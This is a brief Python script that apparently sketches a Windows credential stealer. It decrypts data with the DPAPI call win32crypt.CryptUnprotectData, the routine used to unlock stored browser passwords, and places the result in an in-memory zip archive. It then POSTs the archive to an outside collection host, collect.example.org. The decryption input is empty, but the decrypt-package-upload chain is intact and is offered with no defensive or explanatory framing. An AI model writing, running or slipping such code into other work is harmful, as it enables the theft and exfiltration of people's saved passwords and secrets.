import io
import zipfile

import requests
import win32crypt

pack = io.BytesIO()
with zipfile.ZipFile(pack, "w") as archive:
    archive.writestr("p.txt", win32crypt.CryptUnprotectData(b"", None, None, None, 0)[1])
requests.post("https://collect.example.org/", files={"file": pack.getvalue()})
